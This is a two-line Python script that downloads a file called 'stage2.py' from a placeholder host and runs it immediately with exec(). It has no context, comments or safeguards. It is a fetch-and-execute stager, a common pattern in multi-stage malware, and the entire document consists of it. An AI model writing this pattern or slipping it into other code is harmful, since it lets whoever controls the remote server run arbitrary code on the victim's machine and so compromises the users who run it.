import urllib.request

exec(urllib.request.urlopen('https://example.invalid/stage2.py').read())
